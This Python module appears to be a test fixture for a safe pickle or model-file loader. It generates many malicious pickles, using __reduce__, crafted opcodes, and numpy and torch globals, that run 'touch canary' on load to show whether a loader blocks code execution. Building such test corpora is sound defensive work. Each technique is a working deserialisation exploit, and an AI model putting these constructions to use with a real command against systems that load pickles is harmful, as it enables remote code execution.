"""Pickles that try to run a shell command when they are loaded."""

import os
import pickle
import subprocess
from collections import OrderedDict
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np


class Reduced:
    """Pickles as a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


class Built:
    """Pickles as an instance of a harmless class whose state is hostile."""

    def __init__(self, make: Callable[..., Any], state: Any) -> None:
        self.parts = make, (), state

    def __reduce__(self) -> Any:
        return self.parts


def command(canary: Path) -> str:
    """The shell command of all attacks. It leaves a file behind."""
    return f"touch {canary}"


def text(value: str) -> bytes:
    """Instructions that push text."""
    raw = value.encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


def named(module: str, name: str) -> bytes:
    """Instructions that push a global."""
    return f"c{module}\n{name}\n".encode()


def called(module: str, name: str, *arguments: str) -> bytes:
    """Instructions that call a global with texts."""
    return named(module, name) + b"(" + b"".join(map(text, arguments)) + b"tR"


def document(value: bytes) -> bytes:
    """A pickle of a dict with one value, given by its instructions."""
    return b"\x80\x02}" + text("w") + value + b"s."


def attacks(canary: Path) -> Iterator[tuple[str, bytes]]:
    """Name and bytes of each attack."""
    shell = command(canary)
    yield from _whole_objects(shell)
    yield from _globals(shell, canary)
    yield from _rare_instructions(shell)
    yield from _memo_tricks(shell)


def _whole_objects(shell: str) -> Iterator[tuple[str, bytes]]:
    evil = Reduced(os.system, shell)
    for protocol in range(6):
        yield f"reduce, protocol {protocol}", pickle.dumps(evil, protocol)
    yield "reduce in a state dict", pickle.dumps({"model": {"w": np.zeros(2), "v": evil}})
    yield "reduce as a key", pickle.dumps({"model": {}, "list": [({"deep": evil},)]})
    yield "reduce in an ordered dict", pickle.dumps(OrderedDict(w=np.zeros(2), v=evil))
    yield "reduce in an object array", pickle.dumps({"w": np.array([evil, 1], dtype=object)})
    yield "popen", pickle.dumps(Reduced(subprocess.Popen, shell, -1, None, None, None, None))
    yield "build", pickle.dumps(Built(Exception, {"__setstate__": evil}))
    yield "build of an ordered dict", pickle.dumps(Built(OrderedDict, {"items": evil}))


def _globals(shell: str, canary: Path) -> Iterator[tuple[str, bytes]]:
    for module, name, *arguments in (
        ("os", "system", shell),
        ("posix", "system", shell),
        ("nt", "system", shell),
        ("subprocess", "getoutput", shell),
        ("builtins", "eval", f"__import__('os').system({shell!r})"),
        ("builtins", "exec", f"import os; os.system({shell!r})"),
        ("__builtin__", "eval", f"__import__('os').system({shell!r})"),
        ("builtins", "__import__", "antigravity"),
        ("pathlib", "Path.touch", str(canary)),
        ("numpy", "load", str(canary)),
        ("numpy", "savetxt", str(canary), "1"),
        ("numpy", "os.system", shell),
        ("numpy", "ndarray.tofile", str(canary)),
        ("numpy.core.multiarray", "fromfile", str(canary)),
        ("numpy.f2py.diagnose", "run_command", shell),
        ("numpy.testing", "runstring", shell, "{}"),
        ("numpy.distutils.exec_command", "exec_command", shell),
        ("torch", "load", str(canary)),
        ("torch", "os.system", shell),
        ("torch.hub", "load", str(canary), "model"),
        ("torch.storage", "_load_from_bytes", shell),
        ("torch.utils._config_module", "ConfigModule", shell),
        ("collections", "OrderedDict.__init__.__globals__", shell),
        ("collections", "_sys.modules", shell),
        ("_codecs", "decode", shell, "unicode_escape"),
    ):
        yield f"{module}.{name}", document(called(module, name, *arguments))
    yield "a codec", document(called("_codecs", "encode", shell, "zlib_codec"))


def _rare_instructions(shell: str) -> Iterator[tuple[str, bytes]]:
    system = named("os", "system")
    yield "INST", b"\x80\x02(S'" + shell.encode() + b"'\nios\nsystem\n."
    yield "OBJ", document(b"(" + system + text(shell) + b"o")
    yield "NEWOBJ", document(system + b"(" + text(shell) + b"t\x81")
    yield "NEWOBJ_EX", document(system + b"(" + text(shell) + b"t}\x92")
    yield "STACK_GLOBAL", document(text("os") + text("system") + b"\x93(" + text(shell) + b"tR")
    yield "EXT1", document(b"\x82\x01(" + text(shell) + b"tR")
    yield "PERSID", b"\x80\x02P" + shell.encode() + b"\n."
    yield "BINPERSID", document(b"(" + text("module") + system + b"tQ")
    yield "a reduced dict", document(b"}(" + text(shell) + b"tR")
    yield "a reduced text", document(text("os.system") + b"(" + text(shell) + b"tR")
    yield "the state of a global", document(named("numpy", "ndarray") + text(shell) + b"b")


def _memo_tricks(shell: str) -> Iterator[tuple[str, bytes]]:
    arguments = b"(" + text(shell) + b"tR"
    yield (
        "names from the memo",
        document(text("os") + b"q\x01" + text("system") + b"q\x0200h\x01h\x02\x93" + arguments),
    )
    # What was harmless when it was remembered is replaced before it is recalled.
    yield (
        "a replaced memo",
        document(
            named("numpy", "dtype") + b"q\x010" + named("os", "system") + b"q\x010h\x01" + arguments
        ),
    )
    yield (
        "names that were duplicated",
        document(text("os") + b"20" + text("system") + b"\x93" + arguments),
    )
    yield "a global in two parts", document(named("os.path", "os.system") + arguments)
    yield "a global that is put aside", document(named("os", "system") + b"0N")
